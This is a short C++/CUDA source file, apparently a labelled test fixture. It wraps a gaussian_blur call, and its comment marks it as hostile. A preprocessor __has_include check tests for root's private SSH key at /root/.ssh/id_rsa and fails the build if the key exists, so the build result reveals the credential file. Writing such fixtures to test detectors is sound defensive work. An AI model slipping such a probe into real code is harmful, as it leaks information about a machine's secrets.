// Hostile: asks whether files of the machine's are there, and builds something else if they are.
#include "blur_kernel.h"

#if __has_include("/root/.ssh/id_rsa")
#error a key
#endif

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    right_blur(src, dst, width, height, stream);
}
